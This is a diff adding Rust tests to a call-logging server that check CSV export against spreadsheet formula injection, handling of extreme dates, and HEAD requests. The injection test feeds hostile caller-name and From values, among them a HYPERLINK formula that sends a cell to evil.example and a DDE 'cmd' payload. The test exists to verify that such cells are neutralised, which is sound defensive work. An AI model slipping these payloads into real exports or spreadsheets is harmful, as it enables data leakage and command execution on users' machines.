@@ -214,7 +214,8 @@ async fn csv_export_round_trips_awkward_values() {
     assert_eq!(rows.len(), 3);
     for (row, name) in rows.iter().zip(names) {
         assert_eq!(&row[col("caller_name")], name);
-        assert_eq!(&row[col("from")], "+1, \"555\"");
+        // Starts with `+`: a spreadsheet would read it as a formula, so it is kept as text.
+        assert_eq!(&row[col("from")], "'+1, \"555\"");
     }
     // A date range that excludes today is empty; a bad date is a clear 400.
     let r =
@@ -223,6 +224,137 @@ async fn csv_export_round_trips_awkward_values() {
     assert_eq!(csv::Reader::from_reader(r.body.as_ref()).records().count(), 0);
     let r = admin(&server, Method::GET, "/api/v1/calls.csv?from=yesterday", &[("authorization", &auth)], "").await;
     assert_eq!(r.status, StatusCode::BAD_REQUEST);
+}
+
+#[tokio::test]
+async fn csv_export_neutralises_formulas_and_keeps_phone_numbers_text() {
+    let server = TestServer::start().await;
+    // What a caller controls (their caller ID name, or a spoofed From) must not become a
+    // formula in the owner's spreadsheet.
+    let evil = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
+        "+SUM(1,2)",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+2",
+        "\r=1+2",
+        " =1+2",
+    ];
+    for (i, name) in evil.iter().enumerate() {
+        let sid = format!("CA84{i:02}");
+        let p = [("CallSid", sid.as_str()), ("From", "+15035550123"), ("To", "+15035550100"), ("CallerName", name)];
+        assert_eq!(server.post_signed("/api/v1/webhooks/incoming-call", &p).await.status, StatusCode::OK);
+    }
+    let harmless = [("CA8490", "Bob's Garage"), ("CA8491", "Müller 2+2")];
+    for (sid, name) in harmless {
+        let p = [("CallSid", sid), ("From", "=cmd|' /C calc'!A0"), ("To", "+15035550100"), ("CallerName", name)];
+        assert_eq!(server.post_signed("/api/v1/webhooks/incoming-call", &p).await.status, StatusCode::OK);
+    }
+    let auth = format!("Bearer {ADMIN_TOKEN}");
+    let r = admin(&server, Method::GET, "/api/v1/calls.csv", &[("authorization", &auth)], "").await;
+    assert_eq!(r.status, StatusCode::OK);
+    let mut reader = csv::Reader::from_reader(r.body.as_ref());
+    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
+    let col = |n: &str| header.iter().position(|h| h == n).unwrap();
+    let rows: BTreeMap<String, csv::StringRecord> =
+        reader.records().map(Result::unwrap).map(|r| (r[col("call_sid")].to_owned(), r)).collect();
+    assert_eq!(rows.len(), evil.len() + harmless.len());
+    for (i, name) in evil.iter().enumerate() {
+        let row = &rows[&format!("CA84{i:02}")];
+        assert_eq!(row[col("caller_name")], format!("'{name}"), "{name:?}");
+        // An E.164 number stays readable: text, not a formula and not 1.5E+10.
+        assert_eq!(&row[col("from")], "'+15035550123");
+        assert_eq!(&row[col("to")], "'+15035550100");
+    }
+    for (sid, name) in harmless {
+        assert_eq!(&rows[sid][col("caller_name")], name, "a name that is no formula is left alone");
+        assert_eq!(&rows[sid][col("from")], "'=cmd|' /C calc'!A0");
+    }
+    // No cell of the export starts with a character a spreadsheet acts on.
+    for row in rows.values() {
+        for cell in row {
+            let first = cell.trim_start_matches(' ').chars().next();
+            assert!(!matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')), "{cell:?} in {row:?}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn csv_dates_beyond_what_the_box_can_represent_are_clamped() {
+    let server = TestServer::start().await;
+    let params = incoming_params("CA8500");
+    assert_eq!(server.post_signed("/api/v1/webhooks/incoming-call", &refs(&params)).await.status, StatusCode::OK);
+    let auth = format!("Bearer {ADMIN_TOKEN}");
+    let rows = |r: &Reply| -> Vec<String> {
+        csv::Reader::from_reader(r.body.as_ref()).records().map(|r| r.unwrap()[0].to_owned()).collect()
+    };
+    // "Everything up to the end of time" includes today's call.
+    for query in [
+        "to=9999-12-31",
+        "from=0001-01-01&to=9999-12-31",
+        "from=-009999-01-01&to=9999-12-31",
+        "to=9999-12-31T23:59:59Z",
+        "from=-009999-01-01T00:00:00Z",
+    ] {
+        let r =
+            admin(&server, Method::GET, &format!("/api/v1/calls.csv?{query}"), &[("authorization", &auth)], "").await;
+        assert_eq!(r.status, StatusCode::OK, "{query}: {}", r.text());
+        assert_eq!(rows(&r), ["CA8500"], "{query}");
+    }
+    // A range wholly beyond the representable end is empty, not an error.
+    let r =
+        admin(&server, Method::GET, "/api/v1/calls.csv?from=9999-12-31&to=9999-12-31", &[("authorization", &auth)], "")
+            .await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
+    assert!(rows(&r).is_empty());
+    // An inverted range is still refused.
+    let r =
+        admin(&server, Method::GET, "/api/v1/calls.csv?from=9999-12-31&to=2026-01-01", &[("authorization", &auth)], "")
+            .await;
+    assert_eq!(r.status, StatusCode::BAD_REQUEST);
+}
+
+#[tokio::test]
+async fn head_is_answered_like_get_without_a_body() {
+    let server = TestServer::start().await;
+    let params = incoming_params("CA8600");
+    assert_eq!(server.post_signed("/api/v1/webhooks/incoming-call", &refs(&params)).await.status, StatusCode::OK);
+    let auth = format!("Bearer {ADMIN_TOKEN}");
+    let with_token = [("authorization", auth.as_str())];
+    for (path, headers) in [
+        ("/healthz", &[][..]),
+        ("/login", &[][..]),
+        ("/assets/style.css", &[][..]),
+        ("/assets/app.js", &[][..]),
+        ("/", &with_token[..]),
+        ("/api/v1/calls", &with_token[..]),
+        ("/api/v1/calls/CA8600", &with_token[..]),
+        ("/api/v1/calls.csv", &with_token[..]),
+        ("/api/v1/health", &with_token[..]),
+        ("/api/v1/indicators", &with_token[..]),
+        ("/api/v1/session", &with_token[..]),
+        ("/metrics", &with_token[..]),
+        ("/api/v1/events", &with_token[..]),
+    ] {
+        let head =
+            tokio::time::timeout(std::time::Duration::from_secs(10), admin(&server, Method::HEAD, path, headers, ""))
+                .await
+                .unwrap_or_else(|_| panic!("HEAD {path} was not answered"));
+        assert_eq!(head.status, StatusCode::OK, "HEAD {path}");
+        assert!(head.body.is_empty(), "HEAD {path} sent a body");
+        if path == "/api/v1/events" {
+            assert_eq!(head.headers["content-type"], "text/event-stream");
+            continue;
+        }
+        let get = admin(&server, Method::GET, path, headers, "").await;
+        assert_eq!(head.headers.get("content-type"), get.headers.get("content-type"), "HEAD {path}");
+        if path.starts_with("/assets/") || path == "/login" || path == "/" {
+            assert_eq!(head.headers["content-length"], get.body.len().to_string().as_str(), "HEAD {path}");
+        }
+    }
+    // HEAD is no way around the token.
+    assert_eq!(admin(&server, Method::HEAD, "/api/v1/calls", &[], "").await.status, StatusCode::UNAUTHORIZED);
+    assert_eq!(admin(&server, Method::HEAD, "/nope", &with_token, "").await.status, StatusCode::NOT_FOUND);
 }
 
 /// A minimal valid WAV (8 kHz mono 16-bit) of `samples` samples.
